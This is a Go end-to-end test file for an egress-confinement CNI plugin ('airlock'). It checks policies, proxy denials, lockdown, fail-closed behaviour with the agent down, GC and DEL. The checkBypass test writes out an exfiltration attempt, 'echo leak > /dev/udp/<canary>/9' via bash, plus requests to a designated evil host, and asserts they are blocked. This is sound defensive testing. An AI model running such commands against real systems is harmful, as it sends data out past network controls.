package main

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/containernetworking/cni/libcni"
	"github.com/containernetworking/cni/pkg/types"
	current "github.com/containernetworking/cni/pkg/types/100"

	"airlock/client"
	"airlock/e2e/world"
)

// TestChainConformance drives ptp + airlock-cni through libcni on
// namespaces the test creates and checks each verb per the spec, the
// policies the pods get, fail closed with the agent down, the agent's
// restart, GC and DEL.
func TestChainConformance(t *testing.T) {
	n := newNode(t)
	n.start()
	ctx := context.Background()
	list, solo := n.conflist("1.0.0"), n.soloList()
	if err := n.cni.GetStatusNetworkList(ctx, solo); err != nil {
		t.Fatalf("STATUS with the agent up: %v", err)
	}
	a, b := n.newPod("a", ""), n.newPod("b", "strict")
	for _, p := range []*pod{a, b} {
		n.add(list, p)
	}
	t.Run("policies", func(t *testing.T) { n.checkPolicies(t, a, b) })
	t.Run("bypass", func(t *testing.T) { n.checkBypass(t, a) })
	t.Run("lockdown", func(t *testing.T) { n.checkLockdown(t, a, b) })
	if err := n.cni.CheckNetworkList(ctx, list, a.rt); err != nil {
		t.Fatalf("CHECK of an attached pod: %v", err)
	}
	t.Run("unknown policy", func(t *testing.T) { n.checkUnknownPolicy(t, list) })
	t.Run("agent down", func(t *testing.T) { n.checkAgentDown(t, list, solo, a) })
	t.Run("gc", func(t *testing.T) { n.checkGC(t, list, solo, a, b) })
	t.Run("del", func(t *testing.T) { n.checkDel(t, list, a, b) })
}

// add runs ADD for p and checks the result: the host end renamed into the
// guarded prefix, the pod's address in the pool.
func (n *node) add(list *libcni.NetworkConfigList, p *pod) *current.Result {
	t := n.t
	r, err := n.cni.AddNetworkList(context.Background(), list, p.rt)
	if err != nil {
		t.Fatalf("ADD %s: %v", p.name, err)
	}
	res, err := current.NewResultFromResult(r)
	if err != nil {
		t.Fatal(err)
	}
	var host string
	for _, ifc := range res.Interfaces {
		if ifc.Sandbox == "" {
			host = ifc.Name
		}
	}
	if want := "alk-" + strings.TrimPrefix(p.id(), "pod-"); host != want {
		t.Fatalf("ADD %s: host interface in the result is %q, want %q (%+v)", p.name, host, want, res.Interfaces)
	}
	if len(res.IPs) != 1 || !n.pool.Contains(addrOf(res.IPs[0])) {
		t.Fatalf("ADD %s: IPs %v, want one address in %s", p.name, res.IPs, n.pool)
	}
	return res
}

// checkPolicies: the default policy lets pod a reach the registry; pod
// b's annotation names "strict", which denies the same request.
func (n *node) checkPolicies(t *testing.T, a, b *pod) {
	url := n.w.URL(world.RoleNPM) + "/cni-probe-"
	mark := n.w.Mark()
	if code := a.curl(url + "a"); code == "000" || code == "403" {
		t.Fatalf("pod a (policy lab) fetching the registry: HTTP %s, want the registry's answer", code)
	}
	if len(n.w.Log().Since(mark, world.ByRole(world.RoleNPM), world.Containing("cni-probe-a"))) == 0 {
		t.Fatal("pod a's allowed request never reached the registry")
	}
	if code := b.curl(url + "b"); code != "403" && code != "000" {
		t.Fatalf("pod b (policy strict) fetching the registry: HTTP %s, want a refusal", code)
	}
	// The same request with the name pinned to the address (no DNS):
	// the proxy decides it under strict, by SNI and Host.
	npm := n.w.Name(world.RoleNPM)
	pin := npm + ":443:" + n.w.Addr(world.RoleNPM).String()
	if code := b.curl("https://"+npm+"/cni-probe-b", "--resolve", pin); code != "403" && code != "000" {
		t.Fatalf("pod b (policy strict) fetching the registry by address: HTTP %s, want a refusal", code)
	}
	n.waitEvent("proxy deny for pod b", func(e event) bool {
		return e.Sandbox == b.id() && e.Verdict == "deny" && (e.Kind == "flow" || e.Kind == "http")
	})
	if rs := n.w.Log().Since(mark, world.Containing("cni-probe-b")); len(rs) > 0 {
		t.Fatalf("pod b's denied request reached the world: %v", rs)
	}
	e := n.waitEvent("deny for pod b", func(e event) bool { return e.Sandbox == b.id() && e.Verdict == "deny" })
	if e.Rule == "" && e.Reason == "" {
		t.Errorf("pod b's deny names no rule or reason: %+v", e)
	}
	n.waitEvent("pod b created under strict, running", func(e event) bool {
		return e.Sandbox == b.id() && e.Lifecycle != nil && e.Lifecycle.Stage == "created" && e.Lifecycle.Policy == "strict" &&
			e.Lifecycle.State == "running"
	})
}

// checkBypass: a denied name, UDP and TCP straight to an address — all
// refused or dropped, logged, and nothing reaches the world.
func (n *node) checkBypass(t *testing.T, a *pod) {
	mark := n.w.Mark()
	if code := a.curl(n.w.URL(world.RoleEvil) + "/"); code != "403" && code != "000" {
		t.Errorf("pod a fetching the denied host: HTTP %s, want a refusal", code)
	}
	canary := n.w.Addr(world.RoleCanary).String()
	if out, err := a.exec("bash", "-c", "echo leak > /dev/udp/"+canary+"/9"); err != nil {
		t.Logf("udp send: %v %s", err, out)
	}
	a.curl("http://" + canary + ":8080/")
	n.waitEvent("deny of the evil host", func(e event) bool { return e.Sandbox == a.id() && e.Verdict == "deny" })
	n.waitEvent("drop of raw UDP", func(e event) bool { return e.Sandbox == a.id() && e.Kind == "drop" })
	time.Sleep(500 * time.Millisecond)
	if leaks := n.w.Log().Since(mark, world.Leaks); len(leaks) > 0 {
		t.Fatalf("traffic reached the world around the proxy: %v", leaks)
	}
}

// checkUnknownPolicy: a pod whose annotation names no loaded policy fails
// ADD with code 100, and its namespace keeps no interface.
func (n *node) checkUnknownPolicy(t *testing.T, list *libcni.NetworkConfigList) {
	c := n.newPod("c", "nosuch")
	_, err := n.cni.AddNetworkList(context.Background(), list, c.rt)
	if cniCode(err) != errAgentRefused || !strings.Contains(err.Error(), `"nosuch"`) {
		t.Fatalf("ADD with an unknown policy: %v (code %d), want code %d naming the policy", err, cniCode(err), errAgentRefused)
	}
	if c.hasLink("eth0") {
		t.Fatal("a pod whose ADD failed still has eth0")
	}
	if err := n.cni.DelNetworkList(context.Background(), list, c.rt); err != nil {
		t.Fatalf("the runtime's DEL after a failed ADD: %v", err)
	}
}

// checkAgentDown: with the agent stopped, an attached pod loses the
// network (its pins hold and drop), a new ADD fails with 11 and leaves the
// namespace without network, DEL still succeeds, STATUS says 50; a
// restarted agent resumes the pod from its registry.
func (n *node) checkAgentDown(t *testing.T, list, solo *libcni.NetworkConfigList, a *pod) {
	ctx := context.Background()
	n.stopAgent()
	mark := n.w.Mark()
	if code := a.curl(n.w.URL(world.RoleNPM) + "/cni-down"); code != "000" {
		t.Errorf("pod a with the agent down: HTTP %s, want no answer", code)
	}
	npm := n.w.Name(world.RoleNPM)
	if code := a.curl("https://"+npm+"/cni-down", "--resolve", npm+":443:"+n.w.Addr(world.RoleNPM).String()); code != "000" {
		t.Errorf("pod a with the agent down, by address: HTTP %s, want no answer", code)
	}
	if rs := n.w.Log().Since(mark); len(rs) > 0 {
		t.Errorf("with the agent down, traffic reached the world: %v", rs)
	}
	d := n.newPod("d", "")
	_, err := n.cni.AddNetworkList(ctx, list, d.rt)
	if cniCode(err) != 11 || !strings.Contains(err.Error(), "not reachable") {
		t.Errorf("ADD with the agent down: %v (code %d), want code 11", err, cniCode(err))
	}
	if d.hasLink("eth0") {
		t.Error("a pod whose ADD failed (agent down) still has eth0")
	}
	if err := n.cni.DelNetworkList(ctx, list, d.rt); err != nil {
		t.Errorf("DEL with the agent down: %v", err)
	}
	if err := n.cni.GetStatusNetworkList(ctx, solo); cniCode(err) != errPluginNotAvailable {
		t.Errorf("STATUS with the agent down: %v, want code 50", err)
	}
	n.start()
	if code := a.curl(n.w.URL(world.RoleNPM) + "/cni-again"); code == "000" || code == "403" {
		t.Errorf("pod a after the agent restarted: HTTP %s, want the registry's answer", code)
	}
	if err := n.cni.CheckNetworkList(ctx, list, a.rt); err != nil {
		t.Errorf("CHECK after the restart: %v", err)
	}
}

// checkGC: GC at CNI 1.1 with only a valid detaches b; GC at 1.0 (the
// runtime DELs its stale cached attachments) removes a.
func (n *node) checkGC(t *testing.T, list, solo *libcni.NetworkConfigList, a, b *pod) {
	ctx := context.Background()
	keep := []types.GCAttachment{{ContainerID: a.rt.ContainerID, IfName: a.rt.IfName}}
	if err := n.cni.GCNetworkList(ctx, solo, &libcni.GCArgs{ValidAttachments: keep}); err != nil {
		t.Fatalf("GC: %v", err)
	}
	pods, err := client.New(n.socket).Pods(ctx)
	if err != nil || len(pods) != 1 || pods[0].ID != a.id() {
		t.Fatalf("after GC keeping a: pods %+v (%v), want only %s", pods, err, a.id())
	}
	if err := n.cni.CheckNetworkList(ctx, list, b.rt); cniCode(err) != errAgentRefused {
		t.Errorf("CHECK of a pod GC removed: %v, want code %d", err, errAgentRefused)
	}
	if err := n.cni.DelNetworkList(ctx, list, b.rt); err != nil {
		t.Errorf("DEL of a pod GC removed: %v", err)
	}
}

// checkDel: DEL twice succeeds and leaves no pin, no pod link, no
// registration.
func (n *node) checkDel(t *testing.T, list *libcni.NetworkConfigList, pods ...*pod) {
	ctx := context.Background()
	for _, p := range pods {
		for i := range 2 {
			if err := n.cni.DelNetworkList(ctx, list, p.rt); err != nil {
				t.Fatalf("DEL %s #%d: %v", p.name, i+1, err)
			}
		}
	}
	if left := n.leftovers(); len(left) > 0 {
		t.Fatalf("after DEL: %v", left)
	}
	if ps, err := client.New(n.socket).Pods(ctx); err != nil || len(ps) != 0 {
		t.Fatalf("after DEL the agent still holds %+v (%v)", ps, err)
	}
}

// checkLockdown: the kill switch cuts one pod (its drops name the
// lockdown), leaves the other, and lifting it restores the pod.
func (n *node) checkLockdown(t *testing.T, a, b *pod) {
	ctx := context.Background()
	c := client.New(n.socket)
	if _, err := c.SetLockdown(ctx, client.LockdownRequest{Sandbox: a.id(), Reason: "cni test"}); err != nil {
		t.Fatalf("lock down pod a: %v", err)
	}
	npm := n.w.Name(world.RoleNPM)
	pin := npm + ":443:" + n.w.Addr(world.RoleNPM).String()
	if code := a.curl("https://"+npm+"/cni-locked", "--resolve", pin); code != "000" {
		t.Errorf("pod a locked down: HTTP %s, want no answer", code)
	}
	n.waitEvent("a lockdown drop of pod a", func(e event) bool {
		return e.Sandbox == a.id() && e.Kind == "drop" && strings.Contains(e.Reason, "lockdown")
	})
	if code := b.curl("https://"+npm+"/cni-not-locked", "--resolve", pin); code == "000" {
		t.Errorf("pod b lost the network when only pod a was locked down")
	}
	if _, err := c.SetLockdown(ctx, client.LockdownRequest{Sandbox: a.id(), Lift: true, Reason: "cni test done"}); err != nil {
		t.Fatalf("lift pod a's lockdown: %v", err)
	}
	if code := a.curl(n.w.URL(world.RoleNPM) + "/cni-lifted"); code == "000" || code == "403" {
		t.Errorf("pod a after the lockdown was lifted: HTTP %s", code)
	}
}
